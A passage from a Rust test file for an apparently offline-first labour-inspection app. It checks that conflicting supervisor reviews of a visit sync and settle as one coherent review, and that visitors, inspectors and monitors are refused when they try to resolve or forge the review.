            Review::Return {
                comment: "Recomptez les enfants.".into(),
            },
            Review::Return {
                comment: "Précisez les âges.".into(),
            },
        ),
        (
            Review::Validate,
            Review::Return {
                comment: "Précisez les âges.".into(),
            },
        ),
    ] {
        let both_returned = matches!(first, Review::Return { .. });
        let mut v = Visit::new(VisitKind::LabourInspection, &w, VISITOR, at(2026, 3, 3, 9));
        v.findings = "Trois enfants au séchage.".into();
        let v = visitor.create(&v).unwrap();
        visitor.submit_visit(v.id).unwrap();
        sync_all(&mut visitor, &mut one, &mut two, &mut hub);
        one.review_visit(v.id, first).unwrap();
        two.review_visit(v.id, second).unwrap();
        sync_all(&mut visitor, &mut one, &mut two, &mut hub);
        assert!(!one.conflicts(v.id).unwrap().is_empty());
        if both_returned {
            let mut corrected: Visit = visitor.get(v.id).unwrap();
            corrected.findings = "Quatre enfants au séchage, âges notés.".into();
            visitor.update(&corrected).unwrap();
            visitor.submit_visit(v.id).unwrap();
            let summary = common::sync(&mut visitor, &mut hub, &as_visitor);
            assert!(summary.refused.is_empty(), "{summary:?}");
            let held: Visit = hub.get(v.id).unwrap();
            assert_eq!(held.status, VisitStatus::Submitted);
            assert!(held.findings.starts_with("Quatre"));
            continue;
        }
        // No review no one made: the visitor named as reviewer is refused (it was taken, a
        // review conflict letting any review through).
        let forged = two.resolve_conflict(
            v.id,
            &["reviewed_by".to_string()],
            &serde_json::json!(VISITOR.to_string()),
        );
        assert!(
            matches!(forged, Err(Error::NotAllowed { .. })),
            "{forged:?}"
        );
        // Nor does the visitor set a validation aside by submitting again (the return shown).
        let shown: Visit = one.get(v.id).unwrap();
        if shown.status == VisitStatus::Returned {
            let submitted = visitor.submit_visit(v.id);
            assert!(
                matches!(submitted, Err(Error::NotAllowed { .. })),
                "{submitted:?}"
            );
        }
        // The review the merge did not show, kept by the supervisor who made the other, and
        // carried to a colleague's phone by a peer session (refused there before).
        let kept = match shown.status {
            VisitStatus::Returned => VisitStatus::Validated,
            _ => VisitStatus::Returned,
        };
        two.resolve_conflict(
            v.id,
            &["status".to_string()],
            &serde_json::json!(kept.as_str()),
        )
        .unwrap();
        vigie_core::sync::sync_peers(
            &mut two,
            &mut one,
            &vigie_core::sync::PeerScope::default(),
            64 * 1024,
        )
        .unwrap();
        let carried: Visit = one.get(v.id).unwrap();
        assert_eq!(carried.status, kept);
        assert!(one.conflicts(v.id).unwrap().is_empty());
        sync_all(&mut visitor, &mut one, &mut two, &mut hub);
        for store in [&visitor, &one, &two, &hub] {
            let held: Visit = store.get(v.id).unwrap();
            assert_eq!(held.status, kept);
            assert!(store.conflicts(v.id).unwrap().is_empty());
        }
    }
}

/// Two supervisors reviewing one visit at once — one validates it, the other returns it with a
/// comment — leave its status and reviewer in conflict: settling the status settles the
/// reviewer and the comment with what the same review wrote, never one supervisor's decision
/// with the other's name or comment (a validated visit carrying the return's comment, a
/// return signed by the one who validated).
#[test]
fn a_review_conflict_is_settled_as_one_review() {
    const OTHER: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a04);
    let dir = TempDir::new().unwrap();
    for round in 0..4 {
        let mut one = open(&dir, &format!("one-{round}.db"), SUPERVISOR);
        let mut two = open(&dir, &format!("two-{round}.db"), OTHER);
        let w = plantation(&mut one);
        let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2026, 3, 3, 9));
        v.status = VisitStatus::Submitted;
        let v = one.create(&v).unwrap();
        for id in [w.id, v.id] {
            two.merge_document(id, &one.export_document(id).unwrap())
                .unwrap();
        }
        as_role(&mut one, Role::Supervisor)
            .review_visit(v.id, Review::Validate)
            .unwrap();
        as_role(&mut two, Role::Supervisor)
            .review_visit(
                v.id,
                Review::Return {
                    comment: "Précisez les âges.".into(),
                },
            )
            .unwrap();
        one.merge_document(v.id, &two.export_document(v.id).unwrap())
            .unwrap();
        let fields: Vec<String> = one
            .conflicts(v.id)
            .unwrap()
            .into_iter()
            .map(|c| c.field)
            .collect();
        assert!(
            fields.contains(&"status".to_string()) && fields.contains(&"reviewed_by".to_string()),
            "{fields:?}"
        );
        // The decision the visit shows, kept (which one shows depends on the devices' ids).
        let shown: Visit = one.get(v.id).unwrap();
        let (by, comment) = match shown.status {
            VisitStatus::Returned => (OTHER, "Précisez les âges."),
            _ => (SUPERVISOR, ""),
        };
        // Not an inspector's (the visitor's) nor a monitor's to settle, either way: the value
        // shown was kept, as no step, and one supervisor's review undone.
        for role in [Role::Inspector, Role::CommunityMonitor] {
            for status in [VisitStatus::Validated, VisitStatus::Returned] {
                let refused = as_role(&mut one, role).resolve_conflict(
                    v.id,
                    &["status".to_string()],
                    &serde_json::json!(status.as_str()),
                );
                assert!(
                    matches!(refused, Err(Error::NotAllowed { .. })),
                    "{role:?} {status:?}: {refused:?}"
                );
            }
        }
        as_role(&mut one, Role::Supervisor)
            .resolve_conflict(
                v.id,
                &["status".to_string()],
                &serde_json::json!(shown.status.as_str()),
            )
            .unwrap();
        let settled: Visit = one.get(v.id).unwrap();
        assert_eq!(settled.status, shown.status);
        assert_eq!(settled.reviewed_by, Some(by), "{:?}", shown.status);
        assert_eq!(settled.review_comment, comment, "{:?}", shown.status);
        assert!(
            one.conflicts(v.id).unwrap().is_empty(),
            "{:?}",
            shown.status
        );
    }
}
